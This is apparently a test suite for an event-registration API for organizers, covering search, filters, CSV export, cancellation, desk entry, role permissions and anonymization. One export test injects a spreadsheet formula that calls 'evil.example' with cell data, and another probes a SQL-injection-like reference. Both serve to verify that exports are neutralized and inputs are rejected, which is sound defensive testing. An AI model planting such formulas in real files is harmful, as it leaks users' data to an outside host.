import { anOrganizer, TestOrganizer } from './support/organizers';
import { aWorkshop, ProblemBody, ProgramApi } from './support/program';
import { aParticipant, anOpenEvent, aQuestion, Participants } from './support/registration';
import { LANGUAGES } from './support/registration-form';
import { json, suiteApp } from './support/test-app';

type Item = {
  reference: string;
  status: string;
  waitlistPosition?: number;
  participant: { firstName: string; lastName: string; email: string | null; phone: string | null; organization: string; region: string | null };
  sessions: { sessionId: string; status: string }[];
  source: string;
  erasedAt: string | null;
};
type List = { items: Item[]; total: number; page: number; pageSize: number };
type Detail = Item & { ticketCode?: string; history: { action: string; actor: string; actorUserId: string | null }[] };

const QUESTIONS = [
  aQuestion('statut', 'choice', ['Vous êtes', 'You are'], {
    choices: [
      ['etudiant', ['Étudiant·e', 'Student']],
      ['diplome', ['Diplômé·e', 'Graduate']],
    ],
  }),
  aQuestion('langues', 'multi', ['Langues parlées', 'Languages spoken'], { choices: LANGUAGES }),
  aQuestion('permis', 'boolean', ['Permis de conduire', 'Driving licence']),
  aQuestion('annees', 'number', ["Années d'études", 'Years of study']),
  aQuestion('projet', 'text', ['Votre projet', 'Your project']),
];

/** The organizers' registrations API: list, filters, export, detail, desk, cancel, resend, summary, anonymize — and who may do what. */
describe('organizers’ registrations API', () => {
  let owner: TestOrganizer;
  let desk: TestOrganizer;
  let viewer: TestOrganizer;
  let program: TestOrganizer;
  let outsider: TestOrganizer;
  let people: Participants;

  const t = suiteApp();
  beforeAll(async () => {
    owner = await anOrganizer(t, { organization: 'Ministère de l’Emploi' });
    desk = await anOrganizer(t, { organization: owner.organizationSlug, role: 'desk' });
    viewer = await anOrganizer(t, { organization: owner.organizationSlug, role: 'viewer' });
    program = await anOrganizer(t, { organization: owner.organizationSlug, role: 'program' });
    outsider = await anOrganizer(t, { organization: 'Autre ONG' });
    people = new Participants(t, undefined as never);
  });
  afterEach(() => t.clock.reset());

  /** An open event without opt-in, two seats, the five kinds of question, and a released workshop. */
  async function aForum(): Promise<{ p: ProgramApi; workshop: string }> {
    const p = await ProgramApi.newEvent(t, owner);
    const workshop = (await p.session(aWorkshop().titled('Atelier CV', 'CV workshop').on(1, '10:00', '11:00').with({ capacity: 10 }))).id;
    expect((await p.release()).status).toBe(201);
    await anOpenEvent(p, { capacity: 2, confirmEmail: false, questions: QUESTIONS });
    return { p, workshop };
  }

  async function registered(p: ProgramApi, n: string, overrides: Record<string, unknown> = {}): Promise<string> {
    const res = await people.register(p.slug, aParticipant(n, overrides));
    if (res.status !== 201) throw new Error(`${res.status} ${await res.text()}`);
    return (await json<{ reference: string }>(res)).reference;
  }

  const list = async (p: ProgramApi, query = '', who: TestOrganizer = owner) => {
    const res = await p.as(who).call('GET', `/registrations${query}`);
    if (res.status !== 200) throw new Error(`${res.status} ${await res.text()}`);
    return json<List>(res);
  };

  it('lists, searches (case and accents ignored), filters by every criterion and pages', async () => {
    const { p, workshop } = await aForum();
    const awa = await registered(p, 'a', {
      lastName: 'Traoré',
      phone: '76 00 00 01',
      organization: 'ONG Jeunesse',
      organizationType: 'ngo',
      region: 'Ségou',
      sessionIds: [workshop],
      answers: { statut: 'etudiant', langues: ['fr', 'bm'], permis: true, annees: 3, projet: 'Ouvrir une boulangerie' },
    });
    await registered(p, 'b', {
      lastName: 'Diarra',
      organizationType: 'private',
      region: 'Bamako',
      answers: { statut: 'diplome', langues: ['fr'], permis: false, annees: 5 },
    });
    await registered(p, 'c', { lastName: 'Keïta', region: 'segou', answers: { langues: ['bm'] } });
    await registered(p, 'd', { lastName: 'Coulibaly' });

    const all = await list(p);
    expect(all.total).toBe(4);
    expect(all.items.map((i) => i.participant.lastName)).toEqual(['Coulibaly', 'Keïta', 'Diarra', 'Traoré']);
    expect(all.items.find((i) => i.reference === awa)!.sessions).toEqual([{ sessionId: workshop, status: 'signed_up' }]);

    const names = async (query: string) => (await list(p, query)).items.map((i) => i.participant.lastName).sort();
    expect(await names('?status=waitlisted')).toEqual(['Coulibaly', 'Keïta']);
    expect((await list(p, '?status=waitlisted')).items.map((i) => i.waitlistPosition)).toEqual([2, 1]);
    expect(await names('?q=TRAORE')).toEqual(['Traoré']);
    expect(await names('?q=keita')).toEqual(['Keïta']);
    expect(await names('?q=awab@')).toEqual(['Diarra']);
    expect(await names(`?q=${awa.toLowerCase()}`)).toEqual(['Traoré']);
    expect(await names('?q=76%2000%2000%2001')).toEqual(['Traoré']);
    expect(await names('?q=jeunesse')).toEqual(['Traoré']);
    expect(await names('?q=100%25')).toEqual([]);
    expect(await names('?organizationType=ngo')).toEqual(['Traoré']);
    expect(await names('?region=SEGOU')).toEqual(['Keïta', 'Traoré']);
    expect(await names(`?sessionId=${workshop}`)).toEqual(['Traoré']);
    expect(await names('?question=statut&answer=diplome')).toEqual(['Diarra']);
    expect(await names('?question=langues&answer=bm')).toEqual(['Keïta', 'Traoré']);
    expect(await names('?question=permis&answer=false')).toEqual(['Diarra']);
    expect(await names('?question=annees&answer=3')).toEqual(['Traoré']);
    expect(await names('?question=projet&answer=BOULANGERIE')).toEqual(['Traoré']);
    expect(await names('?status=confirmed&region=bamako&question=langues&answer=fr')).toEqual(['Diarra']);
    expect(await names('?status=&q=&sessionId=')).toHaveLength(4);

    const second = await list(p, '?page=2&pageSize=3');
    expect(second).toMatchObject({ total: 4, page: 2, pageSize: 3 });
    expect(second.items.map((i) => i.participant.lastName)).toEqual(['Traoré']);

    for (const [query, field] of [
      ['?status=bogus', 'status'],
      ['?question=inconnue&answer=x', 'question'],
      ['?question=statut', 'answer'],
      ['?question=permis&answer=peut-etre', 'answer'],
      ['?sessionId=not-a-uuid', 'sessionId'],
      ['?pageSize=1000', 'pageSize'],
    ]) {
      const res = await p.call('GET', `/registrations${query}`);
      expect(res.status).toBe(400);
      expect((await json<ProblemBody>(res)).errors!.map((e) => e.field)).toContain(field);
    }
  });

  it('exports CSV: a BOM, one column per question in the caller’s language, formula-like cells neutralized, every row', async () => {
    const { p } = await aForum();
    await registered(p, 'x', {
      firstName: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
      lastName: '@x',
      organization: '-1',
      phone: '+22376000002',
      answers: { statut: 'etudiant', langues: ['fr', 'bm'], permis: true, annees: 4, projet: '+33 6 12, "cuisine"' },
    });
    await registered(p, 'y', { lastName: 'Tab', organization: 'Tab & Co', region: 'Kayes' });
    const res = await p.call('GET', '/registrations.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain('.csv');
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
    const lines = text.split('\r\n');
    expect(lines[0]).toContain(",Vous êtes,Langues parlées,Permis de conduire,Années d'études,Votre projet");
    expect(lines).toHaveLength(4); // header, two rows, and the last line's end
    expect(lines[3]).toBe('');
    const row = lines[1];
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")"`);
    expect(row).toContain(",'@x,");
    expect(row).toContain("'+22376000002");
    expect(row).toContain(",'-1,");
    expect(row).toContain(`Étudiant·e,Français ; Bambara,Oui,4,"'+33 6 12, ""cuisine"""`);
    expect(lines[2]).toContain(',Tab & Co,');

    const en = new TextDecoder().decode(await (await p.call('GET', '/registrations.csv?lang=en&status=confirmed&q=tab')).arrayBuffer());
    expect(en.split('\r\n')[0]).toContain('Reference,Status,');
    expect(en.split('\r\n')[0]).toContain('You are,Languages spoken,Driving licence,Years of study,Your project');
    expect(en.split('\r\n').filter(Boolean)).toHaveLength(2);
    expect((await p.call('GET', '/registrations.csv?question=nope&answer=1')).status).toBe(400);
  });

  it('exports thousands of rows in batches, each once', async () => {
    const p = await ProgramApi.newEvent(t, owner);
    await anOpenEvent(p, { capacity: 5000, confirmEmail: false });
    await t.query(
      `INSERT INTO registrations (organization_id, event_id, reference, status, first_name, last_name, email, ticket_code, created_at)
       SELECT $1::uuid, $2::uuid, 'BULK' || g, 'confirmed', 'Prénom' || g, 'Nom', 'bulk' || g || '@example.ml', 'T' || g || '-' || $2::text, '2026-06-01T00:00:00Z'
       FROM generate_series(1, 1203) g`,
      [owner.organizationId, p.eventId],
    );
    const csv = new TextDecoder().decode(await (await p.call('GET', '/registrations.csv')).arrayBuffer());
    const refs = csv
      .split('\r\n')
      .slice(1)
      .filter(Boolean)
      .map((l) => l.split(',')[0]);
    expect(refs).toHaveLength(1203);
    expect(new Set(refs).size).toBe(1203);
  });

  it('shows one registration with its history; cancels it for the participant (the head of the list gets the seat) and resends links', async () => {
    const { p } = await aForum();
    const first = await registered(p, 'h1');
    await registered(p, 'h2');
    const waiting = await registered(p, 'h3');
    const detail = await p.ok<Detail>('GET', `/registrations/${first.toLowerCase()}`);
    expect(detail).toMatchObject({ reference: first, status: 'confirmed', participant: { email: 'awah1@example.ml' } });
    expect(detail.ticketCode).toMatch(/^[2-9A-Z]{4}-/);
    expect(detail.history.map((h) => [h.action, h.actor])).toEqual([['registered', 'participant']]);
    expect((await p.call('GET', '/registrations/NOPE1234')).status).toBe(404);
    expect((await p.call('GET', '/registrations/%27%3B--')).status).toBe(404);

    const cancelled = await p.ok<Detail>('POST', `/registrations/${first}/cancel`);
    expect(cancelled.status).toBe('cancelled');
    expect(cancelled.history.at(-1)).toMatchObject({ action: 'cancelled', actor: 'organizer', actorUserId: expect.any(String) });
    expect((await p.ok<Detail>('GET', `/registrations/${waiting}`)).status).toBe('confirmed');
    const mail = async (to: string) =>
      (await t.query<{ template: string }[]>(`SELECT template FROM outbox_messages WHERE recipient = $1 ORDER BY created_at, id`, [to])).map((m) => m.template);
    expect(await mail('awah1@example.ml')).toEqual(['registration.confirmed', 'registration.cancelled']);
    expect(await mail('awah3@example.ml')).toEqual(['registration.waitlisted', 'registration.promoted']);

    const resend = await p.call('POST', `/registrations/${waiting}/resend`);
    expect(resend.status).toBe(202);
    expect(await json(resend)).toEqual({ queued: true });
    expect(await mail('awah3@example.ml')).toEqual(['registration.waitlisted', 'registration.promoted', 'registration.confirmed']);
    expect((await p.ok<Detail>('GET', `/registrations/${waiting}`)).history.map((h) => h.action)).toEqual(['registered', 'promoted', 'link-sent']);
    // Twice within the hour: nothing more goes out.
    expect(await json(await p.call('POST', `/registrations/${waiting}/resend`))).toEqual({ queued: false });
    expect(await mail('awah3@example.ml')).toHaveLength(3);
  });

  it('lets the desk add someone by hand, email optional, and search; not cancel, resend nor anonymize', async () => {
    const { p } = await aForum();
    const asDesk = p.as(desk);
    const res = await asDesk.call('POST', '/registrations/desk', { firstName: 'Moussa', lastName: 'Sangaré', phone: '66 12 34 56', region: 'Mopti' });
    expect(res.status).toBe(201);
    const added = await json<Detail>(res);
    expect(added).toMatchObject({ status: 'confirmed', source: 'desk', participant: { email: null, phone: '+22366123456' } });
    expect(added.history[0]).toMatchObject({ action: 'registered', actor: 'organizer' });
    const again = await asDesk.call('POST', '/registrations/desk', { firstName: 'Moussa', lastName: 'Sangaré', phone: '+223 66 12 34 56' });
    expect(again.status).toBe(409);
    expect((await json<ProblemBody>(again)).code).toBe('ALREADY_REGISTERED');
    const neither = await asDesk.call('POST', '/registrations/desk', { firstName: 'Sans', lastName: 'Contact' });
    expect(neither.status).toBe(400);
    expect((await json<ProblemBody>(neither)).errors!.map((e) => e.field)).toContain('email');
    expect((await list(p, '?q=sangare', desk)).items.map((i) => i.reference)).toEqual([added.reference]);
    // Nothing to write to: the link cannot be resent.
    const noEmail = await p.call('POST', `/registrations/${added.reference}/resend`);
    expect(noEmail.status).toBe(409);
    expect((await json<ProblemBody>(noEmail)).code).toBe('REGISTRATION_WITHOUT_EMAIL');

    for (const path of [`/registrations/${added.reference}/cancel`, `/registrations/${added.reference}/resend`, '/registrations/anonymize']) {
      expect((await asDesk.call('POST', path)).status).toBe(403);
    }
    expect((await p.ok<Detail>('GET', `/registrations/${added.reference}`)).status).toBe('confirmed');
  });

  it('lets a viewer read only, keeps participants from the program role, and hides the event from another organization', async () => {
    const { p } = await aForum();
    const ref = await registered(p, 'v1', { phone: '+22376000009' });
    expect((await list(p, '', viewer)).total).toBe(1);
    expect((await p.as(viewer).call('GET', `/registrations/${ref}`)).status).toBe(200);
    expect((await p.as(viewer).call('GET', '/registrations.csv')).status).toBe(200);
    expect((await p.as(viewer).call('POST', '/registrations/desk', { firstName: 'A', lastName: 'B', email: 'ab@example.ml' })).status).toBe(403);
    expect((await p.as(viewer).call('POST', `/registrations/${ref}/cancel`)).status).toBe(403);

    for (const path of ['/registrations', '/registrations.csv', `/registrations/${ref}`, '/registrations/summary']) {
      const res = await p.as(program).call('GET', path);
      expect(res.status).toBe(403);
      expect(await res.text()).not.toContain('awav1');
      expect((await p.as(outsider).call('GET', path)).status).toBe(404);
    }
    expect((await p.as(outsider).call('POST', `/registrations/${ref}/cancel`)).status).toBe(404);
    expect((await p.as(outsider).call('POST', '/registrations/desk', { firstName: 'A', lastName: 'B', email: 'ab@example.ml' })).status).toBe(404);
  });

  it('counts for the dashboard: statuses, seats, waiting list, workshops and registrations per day', async () => {
    const { p, workshop } = await aForum();
    const day1 = t.clock.now().toISOString().slice(0, 10);
    await registered(p, 's1', { sessionIds: [workshop] });
    t.clock.advance(24 * 3_600_000);
    const day2 = t.clock.now().toISOString().slice(0, 10);
    await registered(p, 's2');
    await registered(p, 's3');
    const summary = await p.ok<Record<string, unknown>>('GET', '/registrations/summary');
    expect(summary).toEqual({
      byStatus: { pending: 0, confirmed: 2, waitlisted: 1, cancelled: 0, expired: 0 },
      total: 3,
      seats: { taken: 2, capacity: 2 },
      waitlist: 1,
      workshops: [
        { id: workshop, title: { fr: 'Atelier CV', en: 'CV workshop' }, startsAt: '2030-06-10T10:00:00.000Z', capacity: 10, signedUp: 1, waiting: 0 },
      ],
      perDay: [
        { date: day1, count: 1 },
        { date: day2, count: 2 },
      ],
    });
    expect((await p.as(viewer).call('GET', '/registrations/summary')).status).toBe(200);
  });

  it('anonymizes every registration once the event is over, keeping the figures, and audits it', async () => {
    const { p, workshop } = await aForum();
    await registered(p, 'z1', { organizationType: 'ngo', sessionIds: [workshop], answers: { projet: 'secret' } });
    await registered(p, 'z2');
    await registered(p, 'z3');
    const early = await p.call('POST', '/registrations/anonymize');
    expect(early.status).toBe(409);
    expect((await json<ProblemBody>(early)).code).toBe('EVENT_NOT_OVER');

    // The forum took place last week.
    await p.ok('PATCH', '', { startsAt: '2026-06-01T08:00:00Z', endsAt: '2026-06-02T18:00:00Z' });
    const res = await p.call('POST', '/registrations/anonymize');
    expect(res.status).toBe(200);
    expect(await json(res)).toEqual({ anonymized: 3 });
    const after = await list(p);
    expect(after.items.every((i) => i.erasedAt && i.participant.firstName === '' && i.participant.email === null)).toBe(true);
    expect(after.items.map((i) => i.status).sort()).toEqual(['confirmed', 'confirmed', 'waitlisted']);
    const [kept] = await t.query(`SELECT organization_type, answers FROM registrations WHERE event_id = $1 AND organization_type IS NOT NULL`, [p.eventId]);
    expect(kept).toEqual({ organization_type: 'ngo', answers: {} });
    const summary = await p.ok<{ byStatus: Record<string, number>; workshops: { signedUp: number }[] }>('GET', '/registrations/summary');
    expect(summary.byStatus.confirmed).toBe(2);
    expect(summary.workshops[0].signedUp).toBe(1);
    const audit = await json<{ items: { action: string; changes: Record<string, unknown> }[] }>(
      await t.fetch(`/api/v1/organizations/${owner.organizationSlug}/audit`, { headers: owner.headers }),
    );
    expect(audit.items[0]).toMatchObject({ action: 'registrations.anonymized', changes: { anonymized: 3 } });
    expect(await json(await p.call('POST', '/registrations/anonymize'))).toEqual({ anonymized: 0 });
  });
});
